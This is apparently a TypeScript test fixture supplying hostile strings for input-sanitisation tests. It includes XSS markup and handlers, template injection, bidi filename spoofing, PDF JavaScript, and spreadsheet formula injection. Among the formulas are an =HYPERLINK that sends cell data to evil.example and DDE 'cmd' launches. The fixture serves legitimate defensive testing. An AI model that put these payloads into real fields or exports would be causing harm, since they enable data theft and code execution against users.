/**
 * Hostile text for the hostile-text suite: strings a member, an applicant or a file could put in
 * any field, each of which would do something if a screen or an export treated it as markup,
 * a template, a formula or a command. Every payload that could run script calls `HOOK(id)`,
 * which records its id on `window.__xss`: a page where `window.__xss` stays undefined ran none.
 * Fields have length limits (a member's name 100 characters, a tag 64): `fitting` gives the
 * payloads that fit a field, the very long one cut to the field's limit.
 */
import type { Rng } from '../support';

export interface Payload {
  id: string;
  /** What it tries: markup, handler, url, template, i18n, bidi, long, formula, markdown, control. */
  kind: string;
  text: string;
}

/** The script a payload runs if it ever runs: it leaves its id on `window.__xss`. */
export const hook = (id: string) => `window.__xss=(window.__xss||[]).concat('${id}')`;

/** The length of the very long payload when no field limit cuts it. */
const LONG = 6000;

function longText(id: string, max: number): string {
  const head = `<b>${id}</b>`;
  // One unbroken token: a long word that no line-breaker finds a place to wrap in.
  return (head + 'Ｗ'.repeat(LONG)).slice(0, Math.max(head.length, max));
}

export function payloads(max = LONG): Payload[] {
  const list: Payload[] = [
    { id: 'P01', kind: 'markup', text: `<script>${hook('P01')}</script>` },
    { id: 'P02', kind: 'handler', text: `<img src=x onerror="${hook('P02')}">` },
    { id: 'P03', kind: 'handler', text: `<svg onload="${hook('P03')}"></svg>` },
    { id: 'P04', kind: 'handler', text: `"><img src=x onerror=${hook('P04')}>` },
    { id: 'P05', kind: 'handler', text: `' onmouseover='${hook('P05')}' x='` },
    { id: 'P06', kind: 'url', text: `javascript:${hook('P06')}` },
    { id: 'P07', kind: 'markup', text: `<a href="javascript:${hook('P07')}">点此</a>` },
    {
      id: 'P08',
      kind: 'markup',
      text: `<iframe srcdoc="<script>parent.${hook('P08')}</script>"></iframe>`,
    },
    { id: 'P09', kind: 'template', text: `{{constructor.constructor('${hook('P09')}')()}}` },
    { id: 'P10', kind: 'i18n', text: '{{panel}}{{- name}}{{count}}' },
    { id: 'P11', kind: 'i18n', text: '$t(workspace:title) $t(errors:unknown)' },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal is the payload
    { id: 'P12', kind: 'template', text: '${alert(12)}#{7*7}<%= 7*7 %>' },
    { id: 'P13', kind: 'bidi', text: '申报书\u202Efdp.exe\u202C' },
    { id: 'P14', kind: 'bidi', text: '王\u200B专\u200D家\uFEFF\u2066隐\u2069' },
    { id: 'P15', kind: 'formula', text: '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")' },
    { id: 'P16', kind: 'formula', text: "+cmd|' /C calc'!A0" },
    { id: 'P17', kind: 'formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
    { id: 'P18', kind: 'formula', text: '-1+1' },
    { id: 'P19', kind: 'formula', text: '\t=1+1' },
    { id: 'P20', kind: 'formula', text: '\r=1+2' },
    { id: 'P21', kind: 'markdown', text: '**粗体** [点我](javascript:alert(21)) <b>加粗</b>' },
    { id: 'P22', kind: 'markup', text: '</textarea></title><style>body{display:none}</style>' },
    { id: 'P23', kind: 'control', text: 'ctl\u0007\u001b[31m红\u001b[0m' },
    {
      id: 'P24',
      kind: 'pdf',
      text: '/JavaScript (app.alert(24)) /OpenAction /URI (http://evil.example)',
    },
    { id: 'P25', kind: 'long', text: longText('P25', max) },
  ];
  return list.filter((p) => p.text.length <= max);
}

/** `n` payloads for a field of at most `max` characters, seeded: every kind shows up in turn. */
export function fitting(r: Rng, max: number, n: number): string[] {
  const all = payloads(max);
  const start = r.int(all.length);
  return Array.from({ length: n }, (_, i) => all[(start + i) % all.length]!.text);
}
